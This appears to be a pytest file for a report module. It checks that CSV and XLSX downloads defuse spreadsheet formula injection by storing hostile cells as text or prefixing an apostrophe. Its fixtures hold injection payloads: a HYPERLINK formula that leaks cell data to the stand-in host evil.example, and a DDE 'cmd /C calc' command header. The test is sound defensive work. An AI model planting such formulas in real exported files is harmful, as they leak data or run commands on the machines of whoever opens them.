"""Downloads are inert (issue 16, item 5 of Why / item 4 of Deliver): text from the data that a spreadsheet would
run as a formula is a text cell in the XLSX and starts with an apostrophe in the CSV; numbers, negative numbers
included, stay numbers. Files are read back with openpyxl and the csv module, not with the writer."""
import csv
import io

import openpyxl
import pytest

from ntm_analysis.report import downloads, spreadsheet_safe

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _record(rows, headers=("quote", "value")):
    return {"id": "hostile", "title": "Hostile", "csv": "hostile.csv",
            "columns": [{"id": h, "header": h, "description": "", "unit": "", "source": ""} for h in headers],
            "rows": rows}


def _hostile_record():
    return _record([[q, -2.5] for q in HOSTILE] + [["Lào Cai", -7], ["plain", None]])


def test_no_formula_cell_in_the_workbook_and_the_text_is_kept_as_written(tmp_path):
    downloads.write_downloads([_hostile_record()], "x", tmp_path)
    wb = openpyxl.load_workbook(tmp_path / "x.xlsx")  # formulas as formulas (not data_only)
    ws = wb["Hostile"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    quotes = [ws.cell(row=i, column=1) for i in range(2, 2 + len(HOSTILE))]
    # XML normalises a carriage return to a line feed when the file is read (openpyxl writes it unescaped)
    assert [c.value for c in quotes] == HOSTILE[:-1] + ["\n=1"]
    assert all(c.data_type == "s" for c in quotes)
    assert all(c.quotePrefix for c in quotes)
    assert ws.cell(row=2, column=1).value == HOSTILE[0]
    assert ws.cell(row=3, column=1).value == "+1+1"
    assert ws.cell(row=5, column=1).value == "@SUM(A1)"
    # numbers stay numbers, negative ones included, and plain text is not touched
    values = [ws.cell(row=i, column=2) for i in range(2, 2 + len(HOSTILE) + 1)]
    assert all(c.data_type == "n" for c in values)
    assert [c.value for c in values] == pytest.approx([-2.5] * len(HOSTILE) + [-7])
    assert ws.cell(row=2 + len(HOSTILE), column=1).value == "Lào Cai"
    assert not ws.cell(row=2 + len(HOSTILE), column=1).quotePrefix


def test_csv_fields_that_a_spreadsheet_would_run_start_with_an_apostrophe(tmp_path):
    downloads.write_downloads([_hostile_record()], "x", tmp_path)
    with open(tmp_path / "x" / "hostile.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["quote", "value"]
    quotes = [r[0] for r in rows[1:1 + len(HOSTILE)]]
    assert quotes == ["'" + q for q in HOSTILE]
    assert all(q.startswith("'") for q in quotes)
    # a real negative number is written as a number: no apostrophe, parses back to the value
    assert [float(r[1]) for r in rows[1:1 + len(HOSTILE)]] == pytest.approx([-2.5] * len(HOSTILE))
    assert rows[1 + len(HOSTILE)] == ["Lào Cai", "-7"]
    assert rows[2 + len(HOSTILE)] == ["plain", ""]


def test_a_hostile_header_is_inert_too():
    record = _record([[1, 2]], headers=("=cmd|' /C calc'!A0", "ok"))
    header = next(csv.reader(io.StringIO(downloads.csv_bytes(record).decode("utf-8-sig"))))
    assert header == ["'=cmd|' /C calc'!A0", "ok"]
    ws = openpyxl.load_workbook(io.BytesIO(downloads.xlsx_bytes([record])))["Hostile"]
    assert ws["A1"].data_type == "s" and ws["A1"].value == "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("value, expected", [
    ("=1", "'=1"), ("+1", "'+1"), ("-x", "'-x"), ("@a", "'@a"), ("\tb", "'\tb"), ("\rc", "'\rc"),
    ("a=1", "a=1"), ("", ""), ("Hòa Bình", "Hòa Bình"), (-3, -3), (-0.25, -0.25), (None, None), (True, True)])
def test_inert_prefixes_active_text_only(value, expected):
    assert spreadsheet_safe.inert(value) == expected
